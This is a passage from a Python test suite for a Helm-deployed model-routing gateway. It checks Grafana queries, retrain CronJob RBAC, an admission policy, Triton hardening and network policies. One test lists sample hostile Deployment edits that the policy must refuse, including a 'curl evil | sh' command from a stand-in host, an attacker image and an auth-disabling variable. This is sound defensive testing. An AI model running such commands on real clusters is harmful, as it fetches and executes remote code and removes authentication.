    assert "nvidia-pytriton" in stages["triton-cpu"] and "COPY --from=built /models /models" in stages["triton-cpu"]
    for stage in stages.values():  # nothing of the build machine (certificate, wheel folder) in any stage
        assert "PIP_CERT" not in stage and "ca-certificates.crt" not in stage and "find-links" not in stage
    triton = (ROOT / "deploy" / "triton.Dockerfile").read_text(encoding="utf-8")
    assert "FROM nvcr.io/nvidia/tritonserver:${TRITON_TAG}-py3" in triton
    assert "COPY model_repository /models" in triton


def _exposed_metric_names() -> set[str]:
    """Every sample name the gateway's registry exposes (counters as *_total, histograms' series)."""
    from ladder.gateway.metrics import GatewayMetrics

    names = set()
    for family in GatewayMetrics().registry.collect():
        if family.type == "counter":
            names |= {f"{family.name}_total", f"{family.name}_created"}
        elif family.type == "histogram":
            names |= {f"{family.name}_{s}" for s in ("bucket", "sum", "count", "created")}
        else:
            names.add(family.name)
    return names


PROMQL_WORDS = frozenset(
    {"by", "without", "on", "ignoring", "group_left", "group_right", "bool", "and", "or", "unless", "offset"}
)


def promql_metrics(expr: str) -> set[str]:
    """Metric names in PromQL: identifiers that are not functions, labels, keywords or variables."""
    text = re.sub(r'"(?:[^"\\]|\\.)*"', "", expr)
    text = re.sub(r"\{[^}]*\}|\[[^\]]*\]|\$\w+", "", text)
    text = re.sub(r"\b(?:by|without|on|ignoring|group_left|group_right)\s*\([^)]*\)", "", text)
    names = set()
    for match in re.finditer(r"([A-Za-z_:][A-Za-z0-9_:]*)\s*(\()?", text):
        if not match[2] and match[1] not in PROMQL_WORDS and not re.fullmatch(r"[eE]\d*|Inf|NaN", match[1]):
            names.add(match[1])
    return names


def test_grafana_dashboard_queries_only_metrics_the_gateway_exposes() -> None:
    dashboard = json.loads((GRAFANA / "ladder-dashboard.json").read_text(encoding="utf-8"))
    exposed = _exposed_metric_names()
    assert promql_metrics('sum by (le) (rate(a_b{x="y"}[5m])) / on(i) c') == {"a_b", "c"}
    queries = [t["expr"] for p in dashboard["panels"] for t in p.get("targets", []) if "expr" in t]
    queries += [v["definition"] for v in dashboard["templating"]["list"] if v.get("definition")]
    assert len(queries) >= 10
    used: set[str] = set()
    for query in queries:
        # label_values(metric, label): the label is not a metric
        names = promql_metrics(re.sub(r"label_values\(([^,)]+),[^)]*\)", r"\1", query))
        assert names, f"no metric in {query!r}"
        assert names <= exposed, f"{query!r} uses {sorted(names - exposed)}, not in ladder/gateway/metrics.py"
        used |= names
    for needed in ("ladder_requests_total", "ladder_cost_usd_total", "ladder_savings_usd_total",
                   "ladder_routing_latency_seconds_bucket", "ladder_fallbacks_total"):  # fmt: skip
        assert needed in used, needed
    ids = [p["id"] for p in dashboard["panels"]]
    assert len(ids) == len(set(ids)) and dashboard["uid"]


def test_grafana_datasources_provide_what_the_dashboard_reads() -> None:
    provisioning = yaml.safe_load((GRAFANA / "datasources.yaml").read_text(encoding="utf-8"))
    assert provisioning["apiVersion"] == 1
    by_uid = {d["uid"]: d for d in provisioning["datasources"]}
    assert by_uid["tempo"]["type"] == "tempo" and by_uid["tempo"]["url"].startswith("http")
    assert by_uid["tempo"]["jsonData"]["serviceMap"]["datasourceUid"] in by_uid
    dashboard = json.loads((GRAFANA / "ladder-dashboard.json").read_text(encoding="utf-8"))
    for panel in dashboard["panels"]:
        source = panel["datasource"]
        if source["uid"] == "${datasource}":
            assert source["type"] in {d["type"] for d in by_uid.values()}
        else:
            assert by_uid[source["uid"]]["type"] == source["type"]


# ---- the nightly retrain CronJob and its RBAC ----------------------------------------------------------


@needs_helm
def test_retrain_is_off_by_default_and_needs_a_volume() -> None:
    assert not [d for d in render(None) if d["metadata"]["labels"].get("app.kubernetes.io/component") == "retrain"]
    missing = helm("template", "rel", str(CHART), "--set", "retrain.enabled=true")
    assert missing.returncode != 0 and "retrain.persistence.existingClaim" in missing.stderr
    elsewhere = helm(
        "template", "rel", str(CHART), "-f", str(CHART / "ci" / "retrain-values.yaml"),
        "--set", "retrain.checkpoint=/var/lib/ladder/other",
    )  # fmt: skip
    assert elsewhere.returncode != 0 and "the checkpoint the gateway serves" in elsewhere.stderr
    typo = helm("lint", "--strict", str(CHART), "--set", "retrain.objective=vibes")
    assert typo.returncode != 0 and "objective" in typo.stdout


@needs_helm
def test_retrain_role_may_only_get_and_patch_the_gateway_deployment() -> None:
    docs = render("retrain-values.yaml")
    gateway = find(docs, "Deployment")["metadata"]["name"]
    role = find(docs, "Role", "retrain")
    assert role["rules"] == [
        {
            "apiGroups": ["apps"],
            "resources": ["deployments"],
            "resourceNames": [gateway],
            "verbs": ["get", "patch"],
        }
    ]
    assert not [d for d in docs if d["kind"] in ("ClusterRole", "ClusterRoleBinding")]
    binding = find(docs, "RoleBinding", "retrain")
    account = find(docs, "ServiceAccount", "retrain")["metadata"]["name"]
    assert binding["roleRef"] == {
        "apiGroup": "rbac.authorization.k8s.io",
        "kind": "Role",
        "name": role["metadata"]["name"],
    }
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": account, "namespace": "ai"}]
    # the gateway's own account still mounts no API token; only the retrain pod does
    gateway_pod = find(docs, "Deployment")["spec"]["template"]["spec"]
    assert gateway_pod["automountServiceAccountToken"] is False
    job_pod = find(docs, "CronJob", "retrain")["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    assert job_pod["serviceAccountName"] == account and job_pod["automountServiceAccountToken"] is True


@needs_helm
def test_retrain_cronjob_runs_a_valid_ladder_retrain_against_the_gateway() -> None:
    from typer.main import get_command

    from ladder.cli.main import app

    docs = render("retrain-values.yaml")
    cronjob = find(docs, "CronJob", "retrain")
    assert cronjob["spec"]["schedule"] == "15 2 * * *" and cronjob["spec"]["concurrencyPolicy"] == "Forbid"
    assert len(cronjob["metadata"]["name"]) <= 52  # a CronJob's Jobs add 11 characters
    pod = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    c = pod["containers"][0]
    args = c["args"]
    assert c["command"] == ["ladder"] and args[0] == "retrain"
    assert args[args.index("--deployment") + 1] == find(docs, "Deployment")["metadata"]["name"]
    assert args[args.index("--namespace") + 1] == "ai"
    assert args[args.index("--pool") + 1] == f"{CONFIG_DIR}/pool.yaml"
    # the checkpoint it promotes into is the one the gateway's pool serves, on the volume both mount
    pool = yaml.safe_load(configmap_files(docs)["pool.yaml"])
    assert args[args.index("--checkpoint") + 1] == pool["routing"]["checkpoint"]
    claim = next(v for v in pod["volumes"] if v["name"] == "data")["persistentVolumeClaim"]["claimName"]
    gateway_claims = [
        v["persistentVolumeClaim"]["claimName"]
        for v in find(docs, "Deployment")["spec"]["template"]["spec"]["volumes"]
        if "persistentVolumeClaim" in v
    ]
    assert claim in gateway_claims
    # the database URL is the gateway's Secret, mounted as the file --feedback defaults to
    assert env_of(c)["LADDER_SECRETS_DIR"]["value"] == SECRETS_DIR and "--feedback" not in args
    volume = next(v for v in pod["volumes"] if v["name"] == "secrets")["secret"]
    gateway_db = secret_files(find(docs, "Deployment"))["LADDER_TRAFFIC_DB"]
    assert {"name": volume["secretName"], "key": volume["items"][0]["key"]} == gateway_db
    assert volume["items"][0]["path"] == "LADDER_TRAFFIC_DB"
    assert {"name": "secrets", "mountPath": SECRETS_DIR, "readOnly": True} in c["volumeMounts"]
    # every rendered option is one `ladder retrain` accepts
    command = get_command(app).commands["retrain"]  # type: ignore[attr-defined]
    options = {o for p in command.params for o in p.opts}
    assert {a for a in args if a.startswith("--")} <= options


# ---- what the retrain account may change: the admission policy, evaluated as the API server would ---------


def _admit(policy: dict[str, Any], user: str, old: dict[str, Any], new: dict[str, Any]) -> list[str]:
    """The messages of the policy's failed validations for an update of ``old`` to ``new`` by ``user``
    (an empty list: admitted), evaluating its CEL with cel-python as the API server evaluates it."""
    import celpy

    env = celpy.Environment()

    def run(expression: str, activation: dict[str, Any]) -> Any:
        return env.program(env.compile(expression)).evaluate(activation)

    request = {"userInfo": {"username": user}, "operation": "UPDATE", "subResource": ""}
    activation: dict[str, Any] = {
        "object": celpy.json_to_cel(new),
        "oldObject": celpy.json_to_cel(old),
        "request": celpy.json_to_cel(request),
    }
    spec = policy["spec"]
    if not all(run(c["expression"], activation) for c in spec.get("matchConditions", [])):
        return []  # not this policy's business
    activation["variables"] = celpy.json_to_cel({})
    computed = {v["name"]: run(v["expression"], activation) for v in spec.get("variables", [])}
    activation["variables"] = celpy.celtypes.MapType({celpy.celtypes.StringType(k): v for k, v in computed.items()})
    return [v["message"] for v in spec["validations"] if not run(v["expression"], activation)]


@needs_helm
def test_the_retrain_account_may_roll_the_gateway_but_not_change_its_image() -> None:
    """RBAC cannot limit a ``patch`` to some fields; the chart's ValidatingAdmissionPolicy does. A rollout
    restart (what ``ladder retrain`` sends) is admitted; a new image, command, environment or any other
    annotation is refused; other users (the operator's ``helm upgrade``) are not its business."""
    import copy

    pytest.importorskip("celpy", reason="pip install cel-python (the dev extra)")
    from ladder.training.promote import RESTARTED_AT

    docs = render("retrain-values.yaml")
    policy = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicy")
    binding = next(d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding")
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
    account = find(docs, "ServiceAccount", "retrain")["metadata"]["name"]
    retrain_user = f"system:serviceaccount:ai:{account}"
    old = find(docs, "Deployment")
    old["spec"]["strategy"] = {"type": "RollingUpdate"}  # defaulted by the API server

    restarted = copy.deepcopy(old)
    restarted["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-07T03:00:00Z"
    assert _admit(policy, retrain_user, old, restarted) == []
    again = copy.deepcopy(restarted)
    again["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-12-08T03:00:00Z"
    assert _admit(policy, retrain_user, restarted, again) == []

    def changed(edit: Any) -> dict[str, Any]:
        new = copy.deepcopy(restarted)
        edit(new["spec"])
        return new

    def gateway_of(spec: dict[str, Any]) -> dict[str, Any]:
        return next(c for c in spec["template"]["spec"]["containers"] if c["name"] == "gateway")

    attacks = {
        "image": lambda s: gateway_of(s).update(image="evil.example/ladder:latest"),
        "command": lambda s: gateway_of(s).update(command=["sh", "-c", "curl evil | sh"]),
        "env": lambda s: gateway_of(s)["env"].append({"name": "LADDER_AUTH_DISABLED", "value": "true"}),
        "annotation": lambda s: s["template"]["metadata"]["annotations"].update({"sidecar.io/inject": "true"}),
        "replicas": lambda s: s.update(replicas=0),
        "labels": lambda s: s["template"]["metadata"]["labels"].update({"extra": "x"}),
    }
    for what, attack in attacks.items():
        refused = _admit(policy, retrain_user, restarted, changed(attack))
        assert refused, f"a change of the gateway's {what} by the retrain account was admitted"
    assert any("pod spec" in m for m in _admit(policy, retrain_user, restarted, changed(attacks["image"])))
    upgrade = changed(attacks["image"])
    assert _admit(policy, "system:serviceaccount:ai:helm-operator", restarted, upgrade) == []
    # and without the policy's switch, none is rendered (clusters before Kubernetes 1.30)
    off = render("retrain-values.yaml", "retrain.admissionPolicy.enabled=false")
    assert not [d for d in off if d["kind"].startswith("ValidatingAdmissionPolicy")]


# ---- Triton hardened and scaled; the network closed by default ---------------------------------------------


@needs_helm
def test_triton_runs_as_non_root_on_a_read_only_root_and_scales() -> None:
    docs = render("gpu-triton-values.yaml")
    deployment = find(docs, "Deployment", "triton")
    pod = deployment["spec"]["template"]["spec"]
    triton = container(deployment, "triton")
    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
    assert triton["securityContext"]["readOnlyRootFilesystem"] is True
    assert triton["securityContext"]["allowPrivilegeEscalation"] is False
    export = pod["initContainers"][0]
    assert export["securityContext"]["readOnlyRootFilesystem"] is True
    # what it must write goes to emptyDirs: /tmp (HOME, caches), /dev/shm, the exported repository
    empty = {v["name"] for v in pod["volumes"] if "emptyDir" in v}
    for c in (triton, export):
        writable = {m["mountPath"] for m in c["volumeMounts"] if m["name"] in empty and not m.get("readOnly")}
        assert "/tmp" in writable and env_of(c)["HOME"]["value"] == "/tmp", c["name"]
    assert {"/dev/shm", values_of("gpu-triton-values.yaml")["triton"]["modelRepository"]["path"]} <= {
        m["mountPath"] for m in triton["volumeMounts"] if m["name"] in empty
    }
    # the HPA owns the replica count; it scales on the GPU metric the scenario names
    hpa = find(docs, "HorizontalPodAutoscaler", "triton")
    assert hpa["spec"]["scaleTargetRef"] == {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "name": deployment["metadata"]["name"],
    }
    assert "replicas" not in deployment["spec"]
    assert [m["pods"]["metric"]["name"] for m in hpa["spec"]["metrics"]] == ["DCGM_FI_DEV_GPU_UTIL"]
    pdb = find(docs, "PodDisruptionBudget", "triton")["spec"]
    assert pdb["selector"]["matchLabels"].items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
    refused = helm("template", "rel", str(CHART), "-f", str(CHART / "ci" / "gpu-triton-values.yaml"),
                   "--set", "triton.autoscaling.metrics=null")  # fmt: skip
    assert refused.returncode != 0 and "targetCPUUtilizationPercentage or metrics" in refused.stderr


@needs_helm
def test_network_policies_are_on_by_default_and_only_the_gateway_reaches_triton() -> None:
    assert has(render(None), "NetworkPolicy", "gateway")
    docs = render("gpu-triton-values.yaml")
    triton = find(docs, "NetworkPolicy", "triton")["spec"]
    gateway_pods = find(docs, "Deployment")["spec"]["template"]["metadata"]["labels"]
    ports = container(find(docs, "Deployment", "triton"), "triton")["ports"]
    for rule in triton["ingress"]:
        names = {p["port"] for p in rule["ports"]}
        if names & {"http", "grpc"}:  # inference and model control (load/unload)
            assert names == {"http", "grpc"} and len(rule["from"]) == 1
            assert rule["from"][0]["podSelector"]["matchLabels"].items() <= gateway_pods.items()
        else:
            assert names == {"metrics"}
    covered = {p["port"] for rule in triton["ingress"] for p in rule["ports"]}
    assert covered == {p["name"] for p in ports}
